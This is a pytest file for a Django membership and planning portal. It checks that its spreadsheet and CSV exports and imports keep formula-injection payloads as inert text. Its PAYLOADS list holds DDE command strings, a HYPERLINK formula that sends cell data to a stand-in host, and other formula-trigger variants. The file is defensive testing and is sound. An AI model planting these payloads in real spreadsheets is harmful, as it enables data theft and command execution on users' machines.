"""Exports cannot be turned against staff: text a spreadsheet would run stays text.

Every XLSX and CSV the portal offers is downloaded with records whose text fields hold formula
payloads, read back with openpyxl and csv, and imported again: no cell is a formula, and the text
comes back as it was written.
"""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from council.files.spreadsheets import FORMULA_TRIGGERS, TEXT_MARK, read_table
from members.directory.imports import INSTITUTION_COLUMNS, PERSON_COLUMNS
from members.models import Institution
from plans.models import Plan, Project
from tests.members.factories import InstitutionFactory, MembershipFactory, PersonFactory
from tests.plans.factories import (
    BudgetLineFactory,
    PlanFactory,
    PlanTaskFactory,
    ProjectFactory,
    StrategyFactory,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"자세히")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+3",
    "＝１＋１ 전각 수식",
    "'=이미 따옴표로 시작하는 글",
]


@pytest.fixture
def planted(anyang, daerim):
    """Institutions and people named with every payload, seated on the Anyang council."""
    for number, payload in enumerate(PAYLOADS):
        institution = InstitutionFactory(name=f"{payload} {number}", region=payload, representative=payload)
        MembershipFactory(council=anyang, institution=institution)
        PersonFactory(name=payload, title=payload, institution=institution)
    return anyang


def _xlsx_cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _assert_no_formula_in_xlsx(content: bytes) -> int:
    risky = 0
    for cell in _xlsx_cells(content):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
            assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
            risky += 1
    return risky


def _assert_no_formula_in_csv(content: bytes) -> int:
    marked = 0
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), cell
            marked += cell.startswith(TEXT_MARK)
    return marked


def _expected(payload: str) -> str:
    return payload.strip()


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize(
    ("url_name", "columns", "field"),
    [("institution-export", INSTITUTION_COLUMNS, "region"), ("person-export", PERSON_COLUMNS, "title")],
)
def test_directory_exports_write_formulas_as_text_and_read_back_unchanged(
    login, alice, planted, fmt, url_name, columns, field
):
    name = url_name if fmt == "xlsx" else f"{url_name}-csv"
    response = login(alice).get(reverse(name), {"council": planted.pk})
    assert response.status_code == 200
    if fmt == "xlsx":
        assert _assert_no_formula_in_xlsx(response.content) >= len(PAYLOADS)
    else:
        assert _assert_no_formula_in_csv(response.content) >= len(PAYLOADS)

    rows = read_table(SimpleUploadedFile(f"export.{fmt}", response.content), columns)
    read_back = [values[field] for _number, values in rows]
    for payload in PAYLOADS:
        assert read_back.count(_expected(payload)) == 1, (payload, read_back)


def test_the_import_templates_hold_no_formula(login, alice, anyang):
    client = login(alice)
    for url_name in ("institution-template", "person-template", "plan-template"):
        response = client.get(reverse(url_name))
        assert response.status_code == 200
        _assert_no_formula_in_xlsx(response.content)


def test_the_plan_workbook_writes_formulas_as_text_and_imports_again_as_downloaded(
    login, alice, anyang, daerim, import_file
):
    MembershipFactory(council=anyang, institution=daerim)
    plan = PlanFactory(council=anyang, title="=1+1 계획", vision=PAYLOADS[0], start_year=2023, end_year=2027)
    strategy = StrategyFactory(plan=plan, code="1", title=PAYLOADS[1])
    task = PlanTaskFactory(strategy=strategy, plan=plan, code="1-1", title=PAYLOADS[2])
    for number, payload in enumerate(PAYLOADS[3:], start=1):
        project = ProjectFactory(
            plan=plan, task=task, code=f"1-1-0{number}", title=payload.strip(), lead_institution=daerim
        )
        BudgetLineFactory(project=project, year=2024, planned=1_000_000 * number)
    client = login(alice)
    response = client.get(reverse("plan-export", args=[plan.pk]))
    assert response.status_code == 200
    assert _assert_no_formula_in_xlsx(response.content) >= 5
    assert load_workbook(io.BytesIO(response.content)).sheetnames[0] != "구조", "the structure is not first"

    copy = PlanFactory(council=anyang, title="되가져온 계획", start_year=2023, end_year=2027)
    imported = import_file(
        client, reverse("plan-import", args=[copy.pk]), SimpleUploadedFile("plan.xlsx", response.content)
    )
    assert imported.context["job"].status == "done", imported.context["errors"]
    titles = dict(Project.objects.filter(plan=copy).values_list("code", "title"))
    assert titles == dict(Project.objects.filter(plan=plan).values_list("code", "title"))
    assert copy.strategies.get().title == PAYLOADS[1] and copy.tasks.get().title == PAYLOADS[2]
    assert Plan.objects.count() == 2 and Institution.objects.filter(pk=daerim.pk).exists()
